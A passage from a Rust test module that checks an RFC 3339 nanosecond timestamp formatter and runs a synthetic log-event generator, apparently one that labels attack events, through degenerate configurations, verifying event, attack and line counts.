        assert_eq!(
            rfc3339_ns(1_717_372_800_000_000_000),
            "2024-06-03T00:00:00.000000000Z"
        );
        assert_eq!(
            rfc3339_ns(1_709_210_096_123_456_789),
            "2024-02-29T12:34:56.123456789Z"
        );
        assert_eq!(rfc3339_ns(0), "1970-01-01T00:00:00.000000000Z");
        assert_eq!(
            rfc3339_ns(951_825_600_000_000_001),
            "2000-02-29T12:00:00.000000001Z"
        );
    }

    #[test]
    fn tiny_and_degenerate_configs() {
        for cfg in [
            SynthConfig {
                events: 0,
                ..small(0)
            },
            SynthConfig {
                events: 1,
                malformed_every: 1,
                ..small(1)
            },
            SynthConfig {
                events: 300,
                days: 0,
                rules: 0,
                ips: 0,
                user_agents: 0,
                ..small(300)
            },
            SynthConfig {
                attack_fraction: 1.0,
                ..small(2_000)
            },
            SynthConfig {
                attack_fraction: f64::NAN,
                ..small(2_000)
            },
        ] {
            let (out, truth, sum, _) = generate(cfg.clone());
            assert_eq!(sum.events, cfg.events);
            assert_eq!(truth_set(&truth).len() as u64, sum.attack_events);
            let n = out.iter().filter(|&&c| c == b'\n').count() as u64;
            assert_eq!(n, sum.lines);
        }
    }
}
